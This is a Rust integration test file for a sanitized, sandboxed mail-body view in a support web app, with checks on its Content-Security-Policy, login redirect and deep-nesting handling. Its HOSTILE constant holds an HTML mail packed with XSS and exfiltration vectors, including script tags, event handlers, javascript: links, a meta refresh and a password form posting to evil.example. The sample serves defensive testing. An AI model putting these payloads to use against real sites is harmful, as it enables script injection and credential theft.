//! `/submissions/{id}/body`: a mail as the customer sees it, in a frame that loads nothing.

use crate::common::RunningSandbox;
use crate::run::{Home, on_both};
use crate::site::{With, header, mail};
use reqwest::StatusCode;
use serde_json::json;

on_both!(
    a_body_runs_nothing_and_loads_nothing,
    a_body_that_takes_long_stops_nobody,
);

const HOSTILE: &str = r#"<!doctype html><html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><script>steal()</script>
<style>p { color: #000 }</style></head>
<body onload="steal()" background="https://evil.example/b.png">
<p style="color:#000" onclick="steal()">ご注文 <b>1001</b></p>
<img src="https://evil.example/pixel.gif" alt="瓶"><img src="//evil.example/2.gif">
<img src="/session/end"><img srcset="https://evil.example/3.gif 2x">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<img src="data:text/html,<script>steal()</script>">
<svg onload="steal()"><script>steal()</script></svg>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<form action="https://evil.example/"><input name="password"><button>OK</button></form>
<a href="javascript:steal()">x</a> <a href="https://shop.example/orders/1001">注文</a>
<table><tr><td bgcolor="white" width="100">合計 1,000円</td></tr></table>
</body></html>"#;

async fn a_body_runs_nothing_and_loads_nothing(home: Home) {
    home.add_user("sato", "support", "correct horse");
    let site = home.web().await;
    let session = site.sign_in("sato", "correct horse").await;
    let mut html = mail("1001");
    html["body_html"] = json!(HOSTILE);
    let (status, row) = site.post("", &html).await;
    assert_eq!(status, StatusCode::CREATED, "{row}");
    let mut text = mail("1002");
    text["body_text"] = json!("<script>steal()</script>\n  <b>1002</b> & 2 > 1");
    assert_eq!(site.post("", &text).await.0, StatusCode::CREATED);

    let show = async |id: &str, cookie: &str| {
        let page = site.get(&format!("/submissions/{id}/body"));
        let page = page.header("accept", "text/html").with(cookie);
        page.send().await.unwrap()
    };
    let answer = show("1", "").await;
    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
    assert!(header(&answer, "location").starts_with("/login"));
    assert!(!answer.text().await.unwrap().contains("1001"));

    let answer = show("1", &session).await;
    assert_eq!(answer.status(), StatusCode::OK);
    assert_eq!(header(&answer, "content-type"), "text/html; charset=utf-8");
    let policy = header(&answer, "content-security-policy").to_owned();
    let parts: Vec<&str> = policy.split(';').map(str::trim).collect();
    for part in [
        "sandbox",
        "default-src 'none'",
        "img-src data:",
        "frame-ancestors 'self'",
    ] {
        assert!(parts.contains(&part), "{part} in {policy}");
    }
    assert!(
        !policy.contains("allow-") && !policy.contains("script"),
        "{policy}"
    );
    let shown = answer.text().await.unwrap();
    for gone in [
        "evil.example",
        "steal",
        "<script",
        "onload",
        "onclick",
        "javascript:",
        "<iframe",
        "<object",
        "<form",
        "<input",
        "<base",
        "<link",
        "<svg",
        "srcset",
        "/session/end",
        "refresh",
    ] {
        assert!(!shown.contains(gone), "{gone} in {shown}");
    }
    for kept in [
        "ご注文",
        "<b>1001</b>",
        "color:#000",
        "data:image/png;base64,iVBORw0KGgo=",
        "合計 1,000円",
        "https://shop.example/orders/1001",
        "瓶",
    ] {
        assert!(shown.contains(kept), "{kept} in {shown}");
    }
    let answer = show("2", &session).await;
    let shown = answer.text().await.unwrap();
    assert!(
        !shown.contains("<script") && !shown.contains("<b>"),
        "{shown}"
    );
    assert!(shown.contains("&lt;b&gt;1002&lt;"), "{shown}");

    for id in ["3", "0", "-1", "9223372036854775808", "abc", "%00", "%ff"] {
        let answer = show(id, &session).await;
        assert_eq!(answer.status(), StatusCode::NOT_FOUND, "{id}");
    }
}

/// The time to clean a document grows with the square of its depth.
async fn a_body_that_takes_long_stops_nobody(mut home: Home) {
    let service = RunningSandbox::start().await;
    home.send_through(&service.url);
    home.add_user("sato", "support", "correct horse");
    let site = home.serve().await;
    let session = site.sign_in("sato", "correct horse").await;
    let mut deep = mail("1001");
    deep["body_html"] = json!("<div>".repeat(150_000));
    deep["body_text"] = json!("ご注文 <1001>");
    let (status, row) = site.post("", &deep).await;
    assert_eq!(status, StatusCode::CREATED, "{row}");
    let id = row["id"].as_i64().unwrap();

    let body = || {
        let page = site.get(&format!("/submissions/{id}/body"));
        page.header("accept-language", "ja").with(&session).send()
    };
    // Many leave before it is shown.
    for _ in 0..20 {
        let gone = tokio::time::timeout(std::time::Duration::from_millis(5), body()).await;
        drop(gone);
    }
    assert_eq!(site.get("/healthz").send().await.unwrap().status(), 200);
    let other = site.enqueue("1002").await;
    site.row_in(other, "synced").await;
    let shown = body().await.unwrap().text().await.unwrap();
    assert!(
        shown.contains("ご注文&#32;&lt;1001&gt;"),
        "{}",
        &shown[..300]
    );
    assert!(shown.contains("入れ子が深すぎる") && !shown.contains("<div"));
}
